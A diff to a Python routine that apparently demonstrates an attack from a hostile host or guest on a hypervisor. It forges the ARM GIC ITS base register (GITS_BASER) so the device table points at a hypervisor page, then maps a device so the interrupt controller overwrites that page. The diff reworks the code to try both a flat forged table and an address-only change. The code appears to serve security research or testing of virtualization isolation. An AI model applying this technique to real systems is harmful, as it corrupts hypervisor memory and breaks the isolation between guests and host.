@@ -50,19 +50,22 @@ def baser_to_hyp_page(host: HostileHost) -> None:
     if found is None:
         return
     n, value = found
-    host.say("Disable the ITS: its tables may only be changed then.")
-    host.enable(False)
-    host.say("Name the hypervisor's page as a flat device table.")
-    forged = value.replace(
+    flat = value.replace(
         physical_address=baser_stored_address(victim, SIZE_64K), page_size=2, size=0, indirect=0, valid=1
     )
-    host.write(host.gits(GITS_BASER, n), forged.word())
-    host.say("If the shape must stay, change the address alone.")
-    host.write(host.gits(GITS_BASER, n), value.replace(physical_address=forged.physical_address).word())
-    host.say("Enable the ITS, which takes the table over.")
-    host.enable(True)
-    host.say("Map a device: the ITS writes its entry into the hypervisor's page.")
-    _map_into(host, VICTIM_DEVICE)
+    same_shape = value.replace(physical_address=flat.physical_address)
+    for text, forged in (
+        ("Name the hypervisor's page as a flat device table.", flat),
+        ("If the table's shape must stay, change its address alone.", same_shape),
+    ):
+        host.say("Disable the ITS: its tables may only be changed then.")
+        host.enable(False)
+        host.say(text)
+        host.write(host.gits(GITS_BASER, n), forged.word())
+        host.say("Enable the ITS, which takes the table over.")
+        host.enable(True)
+        host.say("Map a device: the ITS writes its entry into the hypervisor's page.")
+        _map_into(host, VICTIM_DEVICE)
     host.show("The same page, after.", victim + 8 * VICTIM_DEVICE)
 
 
